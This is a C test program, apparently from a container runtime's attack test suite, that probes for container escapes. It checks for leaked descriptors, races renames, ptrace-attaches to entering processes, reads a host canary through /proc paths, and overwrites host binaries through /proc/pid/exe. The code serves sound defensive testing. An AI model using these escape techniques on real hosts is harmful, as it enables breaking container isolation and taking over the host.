/* What the hostile containers of tests/vm/attacks run, and the hostile caller that starts a runtime. Static, C alone.
 *
 *   attacker fds                     prints every descriptor above 2
 *   attacker swap A B                exchanges two names for ever
 *   attacker watch SECONDS           looks into, attaches to and takes from every process that appears
 *   attacker overwrite SECONDS       overwrites the program of every process that appears
 *   attacker call PROGRAM ARGUMENT…  starts it with a session keyring that holds a secret, all capabilities inheritable
 * and descriptors open attacker key                     looks for that secret
 */
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ptrace.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/wait.h>
#include <time.h>
#include <unistd.h>

#define SECRET "../../../../../../../../../../scratch/canary/secret"
#define FIRST_SLOT 200 /* where Bundt's launcher keeps its own */

/* The kernel's, without its headers: musl-gcc alone compiles this. */
enum { KEYCTL_JOIN_SESSION_KEYRING = 1, KEYCTL_SEARCH = 10, KEYCTL_READ = 11, KEY_SPEC_SESSION_KEYRING = -3 };
struct capability_header {
    unsigned version;
    int pid;
};
struct capability_set {
    unsigned effective, permitted, inheritable;
};

static int list_descriptors(void)
{
    char path[64];
    char target[4096];
    for (int fd = 3; fd < 1024; fd++) {
        if (fcntl(fd, F_GETFD) < 0)
            continue;
        snprintf(path, sizeof path, "/proc/self/fd/%d", fd);
        ssize_t length = readlink(path, target, sizeof target - 1);
        target[length > 0 ? length : 0] = '\0';
        printf("fd %d %s\n", fd, target);
    }
    return 0;
}

_Noreturn static void swap(const char *a, const char *b)
{
    for (;;)
        syscall(SYS_renameat2, AT_FDCWD, a, AT_FDCWD, b, 2 /* RENAME_EXCHANGE */);
}

static double now(void)
{
    struct timespec time;
    clock_gettime(CLOCK_MONOTONIC, &time);
    return (double)time.tv_sec + (double)time.tv_nsec / 1e9;
}

static unsigned long long status_value(int pid, const char *name)
{
    char path[64];
    char line[256];
    unsigned long long value = 0;
    snprintf(path, sizeof path, "/proc/%d/status", pid);
    FILE *file = fopen(path, "re");
    while (file && fgets(line, sizeof line, file))
        if (strncmp(line, name, strlen(name)) == 0)
            value = strtoull(line + strlen(name) + 1, NULL, 16);
    if (file)
        fclose(file);
    return value;
}

/* Reads the host's secret, which only who has left the container's root can reach. */
static int reads_secret(int directory)
{
    char text[16] = "";
    int fd = openat(directory, SECRET, O_RDONLY | O_CLOEXEC);
    int found = fd >= 0 && read(fd, text, sizeof text - 1) > 0 && strncmp(text, "secret", 6) == 0;
    if (fd >= 0)
        close(fd);
    return found;
}

static void take_descriptors(int pid)
{
    char path[320];
    char target[4096];
    snprintf(path, sizeof path, "/proc/%d/fd", pid);
    DIR *table = opendir(path);
    for (struct dirent *entry; table && (entry = readdir(table));) {
        int number = atoi(entry->d_name);
        if (number <= 2)
            continue;
        ssize_t length = readlinkat(dirfd(table), entry->d_name, target, sizeof target - 1);
        if (length <= 0)
            continue;
        target[length] = '\0';
        printf("seen fd %d %s\n", number, target);
        int fd = openat(dirfd(table), entry->d_name, O_PATH | O_CLOEXEC);
        if (fd < 0)
            continue;
        if (reads_secret(fd))
            printf("HARM the host's root by /proc/%d/fd/%d, %s\n", pid, number, target);
        else if (target[0] == '/' && strncmp(target, "/memfd:", 7) != 0 && strncmp(target, "/dev/", 5) != 0)
            printf("HARM descriptor %d of a process on its way in, %s\n", number, target);
        close(fd);
    }
    if (table)
        closedir(table);
}

static int is_ours(const struct stat *file)
{
    static struct stat own[2];
    if (own[0].st_ino == 0 && (stat("/bin/busybox", &own[0]) != 0 || stat("/attacker", &own[1]) != 0))
        exit(3);
    return (file->st_dev == own[0].st_dev && file->st_ino == own[0].st_ino) ||
           (file->st_dev == own[1].st_dev && file->st_ino == own[1].st_ino);
}

static void look_into(int pid)
{
    char path[64];
    struct stat file;
    snprintf(path, sizeof path, "/proc/%d/exe", pid);
    if (stat(path, &file) == 0 && is_ours(&file))
        return; /* it is the container's own program by now */
    take_descriptors(pid);
    for (int i = 0; i < 2; i++) {
        snprintf(path, sizeof path, "/proc/%d/%s", pid, i == 0 ? "root" : "cwd");
        int directory = open(path, O_PATH | O_CLOEXEC);
        if (directory >= 0 && reads_secret(directory))
            printf("HARM the host's root by %s\n", path);
        if (directory >= 0)
            close(directory);
    }
    if (ptrace(PTRACE_SEIZE, pid, 0, 0) != 0)
        return;
    unsigned long long more = status_value(pid, "CapPrm:") & ~status_value(getpid(), "CapBnd:");
    printf("attached to %d before its command\n", pid);
    if (more != 0)
        printf("HARM attached to %d, which has capabilities %llx more than the container\n", pid, more);
    ptrace(PTRACE_DETACH, pid, 0, 0);
}

/* Programs that were seen and are still to be overwritten, held open so that they stay reachable. */
static int held[64];
static int held_count;

static void hold_program(int pid)
{
    char path[64];
    struct stat file;
    struct stat other;
    snprintf(path, sizeof path, "/proc/%d/exe", pid);
    int fd = open(path, O_PATH | O_CLOEXEC);
    if (fd < 0)
        return;
    int known = fstat(fd, &file) != 0 || is_ours(&file) || held_count == 64;
    for (int i = 0; i < held_count && !known; i++)
        known = fstat(held[i], &other) == 0 && other.st_dev == file.st_dev && other.st_ino == file.st_ino;
    if (known) {
        close(fd);
        return;
    }
    held[held_count++] = fd;
}

static void overwrite_held(void)
{
    char path[64];
    char target[4096];
    for (int i = 0; i < held_count; i++) {
        snprintf(path, sizeof path, "/proc/self/fd/%d", held[i]);
        int fd = open(path, O_WRONLY | O_CLOEXEC);
        if (fd < 0)
            continue;
        ssize_t length = readlink(path, target, sizeof target - 1);
        target[length > 0 ? length : 0] = '\0';
        if (pwrite(fd, "#!HARM\n", 7, 0) == 7)
            printf("wrote to %s\n", target);
        close(fd);
    }
}

/* Pids of a namespace follow each other: the next ones are those that come in. */
static int await_processes(double seconds, int overwrites)
{
    const double end = now() + seconds;
    int first = getpid() + 1;
    puts("ready");
    for (unsigned round = 0; now() < end; round++) {
        for (int pid = first; pid < first + 24; pid++) {
            char path[64];
            snprintf(path, sizeof path, "/proc/%d", pid);
            if (access(path, F_OK) != 0)
                continue;
            overwrites ? hold_program(pid) : look_into(pid);
            if (pid > first + 12)
                first = pid - 12;
        }
        if (overwrites)
            overwrite_held();
        while (waitpid(-1, NULL, WNOHANG | __WALL) > 0) {
        }
    }
    if (overwrites)
        printf("held %d foreign programs\n", held_count);
    return 0;
}

static int call(char **argv)
{
    struct capability_header header = {.version = 0x20080522};
    struct capability_set sets[2];
    if (syscall(SYS_capget, &header, sets) == 0) {
        sets[0].inheritable = sets[0].permitted;
        sets[1].inheritable = sets[1].permitted;
        syscall(SYS_capset, &header, sets);
    }
    syscall(SYS_keyctl, KEYCTL_JOIN_SESSION_KEYRING, NULL);
    if (syscall(SYS_add_key, "user", "bundt-canary", "secret", 6, KEY_SPEC_SESSION_KEYRING) < 0)
        perror("add_key");
    int root = open("/", O_PATH | O_DIRECTORY);
    const int places[] = {3, 4, 5, 7, 9, 63, FIRST_SLOT, FIRST_SLOT + 3, 900};
    for (unsigned i = 0; i < sizeof places / sizeof *places; i++)
        if (places[i] != root)
            dup2(root, places[i]);
    execv(argv[0], argv);
    perror(argv[0]);
    return 127;
}

static int find_key(void)
{
    char secret[16] = "";
    long key = syscall(SYS_keyctl, KEYCTL_SEARCH, KEY_SPEC_SESSION_KEYRING, "user", "bundt-canary", 0);
    if (key < 0)
        return 0;
    syscall(SYS_keyctl, KEYCTL_READ, key, secret, sizeof secret);
    printf("key %s\n", secret);
    return 0;
}

int main(int argc, char **argv)
{
    setvbuf(stdout, NULL, _IOLBF, 0);
    const char *what = argc > 1 ? argv[1] : "";
    if (strcmp(what, "fds") == 0)
        return list_descriptors();
    if (strcmp(what, "swap") == 0 && argc == 4)
        swap(argv[2], argv[3]);
    if (strcmp(what, "watch") == 0 && argc == 3)
        return await_processes(atof(argv[2]), 0);
    if (strcmp(what, "overwrite") == 0 && argc == 3)
        return await_processes(atof(argv[2]), 1);
    if (strcmp(what, "call") == 0 && argc > 2)
        return call(argv + 2);
    if (strcmp(what, "key") == 0)
        return find_key();
    fprintf(stderr, "attacker: see the head of attacker.c\n");
    return 2;
}
